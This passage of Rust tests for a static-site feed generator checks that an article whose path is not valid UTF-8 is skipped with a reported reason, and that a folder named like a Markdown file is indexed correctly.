    let rel = "posts/caf\u{FFFD}-latin1.md";
    assert_others_unaffected(&base, &site, &[rel]);
    let report = site
        .reports()
        .iter()
        .find(|(p, _)| p.starts_with("posts/caf"))
        .map(|(_, r)| r.clone())
        .expect("a report for the file");
    // Skipped with a reason: by its lossy name the body could never be read back (that was
    // the bug: the feed fell back to the summary and the article page answered 500).
    assert_skipped(&report, "not valid UTF-8");
    assert!(!site.index().articles().any(|a| a.path.starts_with("posts/caf")));
    let check = herald::check::Report::from_site(&site).to_text();
    assert!(
        check.contains("caf\u{FFFD}-latin1.md: skipped: the path is not valid UTF-8"),
        "{check}"
    );
}

#[test]
fn a_folder_named_like_an_article() {
    let (_dir, site, _) =
        check_one("posts/folder.md/inner.md", b"## Inside a folder named .md\n\nText.\n");
    assert!(!site.reports().contains_key("posts/folder.md"));
    assert_eq!(feed_title(&site, "posts/folder.md/inner.md"), "Inside a folder named .md");
}
